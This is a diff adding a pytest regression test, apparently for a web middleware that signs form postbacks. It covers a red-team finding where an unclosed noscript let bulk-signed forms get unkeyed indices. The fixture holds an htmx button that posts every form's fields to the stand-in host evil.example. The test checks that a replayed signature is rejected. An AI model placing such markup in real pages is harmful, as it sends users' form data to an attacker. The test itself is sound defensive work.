@@ -435,6 +435,31 @@ def test_forms_without_an_action_share_a_token_unkeyed_in_any_piece(
         postback(app, form, path="/list")
 
 
+@pytest.mark.parametrize("streamed", [False, True])
+def test_htmx_in_a_noscript_left_open_keys_a_list_pages_indices(
+    make_app: AppFactory, inner: RecordingApp, streamed: bool
+) -> None:
+    """(found by a red-team pass: the forms signed in bulk were signed before the open
+    <noscript> was read, and got unkeyed indices; an hx-include sending form 1's fields
+    elsewhere then let them post as form 2)"""
+    forms = "".join(f'<form method="post"{"" if streamed else f" action=/a/{n}"}>'
+                    f'<button data-postback="del" data-postback-argument="{n}">x</button></form>'
+                    for n in (1, 2, 3))
+    page = ('<html><head></head><body>' + forms + '<noscript><button formaction="/x" '
+            'hx-post="https://evil.example/" hx-include="form">go</button> ')
+    if streamed:
+        app = make_app(inner_app=streaming(page + "</noscript></body></html>",
+                                           size=len(page)))
+    else:
+        inner.page = page
+        app = make_app()
+    fields = list_forms(app.get("/a/list").body)
+    assert len(fields) == 3 and all(shares_a_page_token(form, keyed=True) for form in fields)
+    signature = fields[0]["__EVENTVALIDATION"].split(".")[1]
+    postback(app, {**fields[0], "__EVENTVALIDATION": f"1.{signature}"}, "del", "2",
+             path="/a/list" if streamed else "/a/2", status=403)
+
+
 def test_a_page_that_uses_htmx_shares_a_token_with_keyed_indices(
     make_app: AppFactory, inner: RecordingApp
 ) -> None:
